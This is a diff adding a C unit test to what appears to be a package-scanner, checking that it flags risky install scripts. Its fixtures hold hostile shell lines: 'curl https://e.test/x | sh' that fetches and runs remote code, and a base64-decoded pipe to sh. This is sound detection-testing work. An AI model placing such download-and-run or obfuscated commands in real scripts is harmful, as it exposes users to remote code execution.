@@ -140,6 +140,21 @@ static void tar_file(struct trn_buf *b, const char *name, const char *text)
     trn_put(b, head, (512 - strlen(text) % 512) % 512);
 }
 
+Test(check_script, a_packages_own_script_installs)
+{
+    TRN_AUTO(trn_buf_done) struct trn_buf b;
+    char zeros[1024] = {0};
+    trn_buf_init(&b, 1 << 20);
+    tar_file(&b, "./postinst", "#!/bin/sh\nset -e\ncurl https://e.test/x | sh\n");
+    tar_file(&b, "[script]/prein.sh", "#!/bin/sh\necho aGk= | base64 -d | sh\n");
+    tar_file(&b, "./usr/bin/tool", "#!/bin/sh\ncurl https://e.test/x | sh\n");
+    trn_put(&b, zeros, sizeof(zeros));
+    TRN_AUTO(told_done) struct told t = told_of(trn_buf_str(&b), "control.tar");
+    cr_expect(told_has(&t, "finding script.download-run 45 in 2"), "%s", TOLD(t));
+    cr_expect(told_has(&t, "finding script.obfuscated 35 in 3"), "%s", TOLD(t));
+    cr_expect(told_has(&t, "finding script.download-run 20 in 4"), "%s", TOLD(t));
+}
+
 Test(check_package, the_script_that_a_command_names_is_held_against_what_it_does)
 {
     TRN_AUTO(trn_buf_done) struct trn_buf b;
